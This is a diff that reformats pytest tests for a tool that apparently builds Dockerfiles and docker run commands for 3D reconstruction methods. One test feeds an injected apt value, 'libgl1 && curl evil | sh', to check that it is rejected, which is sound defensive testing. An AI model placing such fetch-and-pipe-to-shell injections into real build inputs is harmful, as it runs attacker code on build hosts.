@@ -9,7 +9,14 @@ import re
 import pytest
 from envs_helpers import make_toy_package, toy_spec
 
-from reconbench.envs import DockerBackend, Environment, EnvironmentBuildError, EnvironmentMissing, dockerfile, recipe_hash
+from reconbench.envs import (
+    DockerBackend,
+    Environment,
+    EnvironmentBuildError,
+    EnvironmentMissing,
+    dockerfile,
+    recipe_hash,
+)
 from reconbench.envs.docker import base_image, image_tag
 from reconbench.methods.base import MethodSpec
 
@@ -21,24 +28,42 @@ def upstream_spec(**environment) -> MethodSpec:
     env = {
         "python": "3.10",
         "cuda": "12.1",
-        "packages": [["torch==2.1.0"], "-r {repo}/requirements.txt", "git+https://github.com/tatsy/torchmcubes.git@3aef8afa5f21b113afc4f4ea148baee850cbd472"],
+        "packages": [
+            ["torch==2.1.0"],
+            "-r {repo}/requirements.txt",
+            "git+https://github.com/tatsy/torchmcubes.git@3aef8afa5f21b113afc4f4ea148baee850cbd472",
+        ],
         "pip_args": ["--extra-index-url", "https://download.pytorch.org/whl/cu121"],
-        "build": [["{python}", "-m", "pip", "install", "./diff-gaussian-rasterization"], {"argv": ["{python}", "setup.py", "build_ext"], "cwd": "ext"}],
+        "build": [
+            ["{python}", "-m", "pip", "install", "./diff-gaussian-rasterization"],
+            {"argv": ["{python}", "setup.py", "build_ext"], "cwd": "ext"},
+        ],
         "apt": ["libgl1", "libglib2.0-0"],
         "env": {"FORCE_CUDA": "1", "WEIGHTS": "{repo}/ckpt", "ODD": 'a$b"c'},
     }
     env.update(environment)
-    return MethodSpec.from_dict({
-        "name": "TripoSR",
-        "paradigm": "feed-forward",
-        "representation": "mesh",
-        "description": "test spec",
-        "steps": [{"stage": "generation", "argv": ["{python}", "run.py", "{input}"]}],
-        "output": {"path": "*/mesh.obj"},
-        "upstream": {"repo": "https://github.com/VAST-AI-Research/TripoSR", "commit": TRIPOSR,
-                     "extra": [{"repo": "https://github.com/DSaurus/threestudio-3dgs", "commit": PLUGIN, "dest": "custom/threestudio-3dgs"}]},
-        "environment": env,
-    })
+    return MethodSpec.from_dict(
+        {
+            "name": "TripoSR",
+            "paradigm": "feed-forward",
+            "representation": "mesh",
+            "description": "test spec",
+            "steps": [{"stage": "generation", "argv": ["{python}", "run.py", "{input}"]}],
+            "output": {"path": "*/mesh.obj"},
+            "upstream": {
+                "repo": "https://github.com/VAST-AI-Research/TripoSR",
+                "commit": TRIPOSR,
+                "extra": [
+                    {
+                        "repo": "https://github.com/DSaurus/threestudio-3dgs",
+                        "commit": PLUGIN,
+                        "dest": "custom/threestudio-3dgs",
+                    }
+                ],
+            },
+            "environment": env,
+        }
+    )
 
 
 def run_lines(text: str) -> list[list[str]]:
@@ -54,44 +79,103 @@ def test_dockerfile_from_the_recipe():
     runs = run_lines(text)
     # Python of the recipe, in a venv first on PATH.
     assert "python3.10 python3.10-venv python3.10-dev" in text and "libgl1 libglib2.0-0" in text
-    assert ["python3.10", "-m", "venv", "/opt/venv"] in runs and "ENV VIRTUAL_ENV=/opt/venv PATH=/opt/venv/bin:$PATH" in lines
+    assert [
+        "python3.10",
+        "-m",
+        "venv",
+        "/opt/venv",
+    ] in runs and "ENV VIRTUAL_ENV=/opt/venv PATH=/opt/venv/bin:$PATH" in lines
     # Pinned commits: main checkout and the extra repository into its dest.
     assert ["git", "clone", "https://github.com/VAST-AI-Research/TripoSR", "/opt/upstream"] in runs
     assert ["git", "-C", "/opt/upstream", "-c", "advice.detachedHead=false", "checkout", TRIPOSR] in runs
-    assert ["git", "clone", "https://github.com/DSaurus/threestudio-3dgs", "/opt/upstream/custom/threestudio-3dgs"] in runs
-    assert ["git", "-C", "/opt/upstream/custom/threestudio-3dgs", "-c", "advice.detachedHead=false", "checkout", PLUGIN] in runs
+    assert [
+        "git",
+        "clone",
+        "https://github.com/DSaurus/threestudio-3dgs",
+        "/opt/upstream/custom/threestudio-3dgs",
+    ] in runs
+    assert [
+        "git",
+        "-C",
+        "/opt/upstream/custom/threestudio-3dgs",
+        "-c",
+        "advice.detachedHead=false",
+        "checkout",
+        PLUGIN,
+    ] in runs
     # Packages in order, one pip call per group, placeholders substituted, pip_args on each.
     pip = [r for r in runs if r[1:4] == ["-m", "pip", "install"] and "--extra-index-url" in r]
     # torch 2.1: setuptools < 70 before anything else (its cpp_extension needs pkg_resources; audit X1).
     assert pip == [
-        ["/opt/venv/bin/python", "-m", "pip", "install", "--extra-index-url", "https://download.pytorch.org/whl/cu121", "setuptools<70", "wheel"],
-        ["/opt/venv/bin/python", "-m", "pip", "install", "--extra-index-url", "https://download.pytorch.org/whl/cu121", "torch==2.1.0"],
-        ["/opt/venv/bin/python", "-m", "pip", "install", "--extra-index-url", "https://download.pytorch.org/whl/cu121",
-         "-r", "/opt/upstream/requirements.txt", "git+https://github.com/tatsy/torchmcubes.git@3aef8afa5f21b113afc4f4ea148baee850cbd472"],
+        [
+            "/opt/venv/bin/python",
+            "-m",
+            "pip",
+            "install",
+            "--extra-index-url",
+            "https://download.pytorch.org/whl/cu121",
+            "setuptools<70",
+            "wheel",
+        ],
+        [
+            "/opt/venv/bin/python",
+            "-m",
+            "pip",
+            "install",
+            "--extra-index-url",
+            "https://download.pytorch.org/whl/cu121",
+            "torch==2.1.0",
+        ],
+        [
+            "/opt/venv/bin/python",
+            "-m",
+            "pip",
+            "install",
+            "--extra-index-url",
+            "https://download.pytorch.org/whl/cu121",
+            "-r",
+            "/opt/upstream/requirements.txt",
+            "git+https://github.com/tatsy/torchmcubes.git@3aef8afa5f21b113afc4f4ea148baee850cbd472",
+        ],
     ]
     # Build steps in the checkout (or their own sub-folder), after the packages.
     assert ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"] in runs
     i = lines.index('RUN ["/opt/venv/bin/python", "setup.py", "build_ext"]')
     assert lines[i - 1] == "WORKDIR /opt/upstream/ext" and lines[i + 1] == "WORKDIR /opt/upstream"
-    assert runs.index(pip[-1]) < runs.index(["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"])
-    assert lines.index("WORKDIR /opt/upstream") < lines.index('RUN ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]')
+    assert runs.index(pip[-1]) < runs.index(
+        ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]
+    )
+    assert lines.index("WORKDIR /opt/upstream") < lines.index(
+        'RUN ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]'
+    )
     # Recipe env (before the builds, so FORCE_CUDA applies) and an arch list for CUDA extensions built without a GPU.
-    assert 'ENV FORCE_CUDA="1"' in lines and 'ENV WEIGHTS="/opt/upstream/ckpt"' in lines and 'ENV ODD="a\\$b\\"c"' in lines
+    assert (
+        'ENV FORCE_CUDA="1"' in lines and 'ENV WEIGHTS="/opt/upstream/ckpt"' in lines and 'ENV ODD="a\\$b\\"c"' in lines
+    )
     assert any(line.startswith('ENV TORCH_CUDA_ARCH_LIST="') for line in lines)
-    assert lines.index('ENV FORCE_CUDA="1"') < lines.index('RUN ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]')
+    assert lines.index('ENV FORCE_CUDA="1"') < lines.index(
+        'RUN ["/opt/venv/bin/python", "-m", "pip", "install", "./diff-gaussian-rasterization"]'
+    )
     assert recipe_hash(spec, "docker") in text
     assert dockerfile(spec) == text  # deterministic
 
 
 def test_other_python_versions_come_from_deadsnakes_and_cuda_tags():
     text = dockerfile(upstream_spec(python="3.11", cuda="11.8"))
-    assert "ppa:deadsnakes/ppa" in text and "python3.11-venv" in text and '["python3.11", "-m", "venv", "/opt/venv"]' in text
+    assert (
+        "ppa:deadsnakes/ppa" in text
+        and "python3.11-venv" in text
+        and '["python3.11", "-m", "venv", "/opt/venv"]' in text
+    )
     assert "FROM nvidia/cuda:11.8.0-cudnn8-devel-ubuntu22.04" in text
     assert base_image(upstream_spec(cuda="12.4")) == "nvidia/cuda:12.4.1-cudnn-devel-ubuntu22.04"
     assert base_image(upstream_spec(cuda="12.1.0")) == "nvidia/cuda:12.1.0-cudnn8-devel-ubuntu22.04"
     assert base_image(upstream_spec(cuda=None)) == "ubuntu:22.04"
     assert "TORCH_CUDA_ARCH_LIST" not in dockerfile(upstream_spec(cuda=None))
-    assert base_image(upstream_spec(base_image="pytorch/pytorch:2.1.0-cuda12.1-cudnn8-devel")) == "pytorch/pytorch:2.1.0-cuda12.1-cudnn8-devel"
+    assert (
+        base_image(upstream_spec(base_image="pytorch/pytorch:2.1.0-cuda12.1-cudnn8-devel"))
+        == "pytorch/pytorch:2.1.0-cuda12.1-cudnn8-devel"
+    )
     with pytest.raises(ValueError, match="apt"):
         dockerfile(upstream_spec(apt=["libgl1 && curl evil | sh"]))
 
@@ -108,7 +192,7 @@ def test_local_repository_is_checked_out_on_the_host_and_copied(tmp_path):
     commit = make_toy_package(tmp_path / "up")
     spec = toy_spec("toy-docker", tmp_path / "up", commit, packages=["{repo}"])
     text = dockerfile(spec)
-    assert "COPY repo /opt/upstream" in text and commit in text and "git\", \"clone" not in text
+    assert "COPY repo /opt/upstream" in text and commit in text and 'git", "clone' not in text
     assert ["/opt/venv/bin/python", "-m", "pip", "install", "/opt/upstream"] in run_lines(text)
 
 
@@ -153,10 +237,19 @@ def test_wrap_builds_the_docker_run_argv(tmp_path, monkeypatch):
     monkeypatch.delenv("CUDA_VISIBLE_DEVICES", raising=False)
     hub = tmp_path / "hub"
     hub.mkdir()
-    env = Environment(method="m", python="python", repo="/opt/upstream", env={"HF_HUB_OFFLINE": "1", "A": "b c"},
-                      backend="docker", image="reconbench/m:0123456789ab", mounts=(str(hub), str(tmp_path / "absent")))
+    env = Environment(
+        method="m",
+        python="python",
+        repo="/opt/upstream",
+        env={"HF_HUB_OFFLINE": "1", "A": "b c"},
+        backend="docker",
+        image="reconbench/m:0123456789ab",
+        mounts=(str(hub), str(tmp_path / "absent")),
+    )
     work = str(tmp_path / "work")
-    argv, cwd = env.wrap(["python", "run.py", f"{work}/in.png"], cwd=work, mounts=(work, "/hooks"), gpu=True, env={"X": "1"}, name="job1")
+    argv, cwd = env.wrap(
+        ["python", "run.py", f"{work}/in.png"], cwd=work, mounts=(work, "/hooks"), gpu=True, env={"X": "1"}, name="job1"
+    )
     assert cwd is None
     assert argv[:6] == ["docker", "run", "--rm", "--init", "--name", "job1"] and argv[6:8] == ["--gpus", "all"]
     assert argv[-4:] == ["reconbench/m:0123456789ab", "python", "run.py", f"{work}/in.png"]
@@ -177,7 +270,10 @@ def test_wrap_builds_the_docker_run_argv(tmp_path, monkeypatch):
 
 def test_venv_wrap_is_the_identity():
     env = Environment(method="m", python="/v/bin/python", repo="/co", env={"K": "V"})
-    assert env.wrap(["/v/bin/python", "run.py"], cwd="/work", mounts=("/work",), gpu=True) == (["/v/bin/python", "run.py"], "/work")
+    assert env.wrap(["/v/bin/python", "run.py"], cwd="/work", mounts=("/work",), gpu=True) == (
+        ["/v/bin/python", "run.py"],
+        "/work",
+    )
     assert os.sep == "/"  # the venv layout above assumes POSIX paths
 
 
